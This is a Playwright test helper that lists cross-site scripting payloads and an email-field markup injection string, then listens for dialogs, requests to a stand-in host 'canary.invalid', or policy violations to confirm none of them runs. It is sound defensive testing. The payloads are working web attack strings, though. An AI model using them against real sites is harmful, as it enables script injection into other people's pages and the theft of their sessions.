import type { Page } from '@playwright/test'
import { expect } from './journal-test.ts'

/** Nobody has this host: whatever is asked of it was asked by a payload. */
const canaryHost = 'canary.invalid'

/** Each runs a script, or calls a host of its own, wherever it is taken for more than text. */
export const payloads = [
  '<script>alert(1)</script>',
  `"><script src=//${canaryHost}/1.js></script>`,
  '<img src=x onerror=alert(1)>',
  `<img src="//${canaryHost}/2.gif">`,
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">press me</a>',
  '[press me](javascript:alert(1))',
  '[press me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  `![look](//${canaryHost}/3.png "x onerror=alert(1)")`,
  '<JaVaScRiPt:alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "';alert(1);//",
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  '</title></textarea></script><script>alert(1)</script>',
  `<style>@import "//${canaryHost}/4.css";</style><b style="background:url(//${canaryHost}/5)">x</b>`,
  '&lt;img src=x onerror=alert(1)&gt;',
  '＜script＞alert(1)＜/script＞<ſcript>alert(1)</ſcript>',
  '\u202E<script>alert(1)</script>\u202C',
] as const

/** An address that the email fields take, which is markup where it is not text. */
export const markupEmail = (name: string) => `"><img/src=x/onerror=alert(1)>${name}@example.org`

/** Listens to all that a payload would do; what is returned says that none did. */
export async function listenForPayloads(page: Page): Promise<() => void> {
  const ran: string[] = []
  page.on('dialog', (dialog) => {
    ran.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  await page.route(
    ({ hostname }) => hostname === canaryHost,
    (route) => {
      ran.push(`a request: ${route.request().url()}`)
      return route.abort()
    },
  )
  // Logged as a fault, which fails the test: neither a payload nor a part of ours may run against
  // the policy.
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      console.error(`Violated: ${violatedDirective} by ${blockedURI}`),
    )
  })
  return () => expect(ran, 'what payloads did').toEqual([])
}
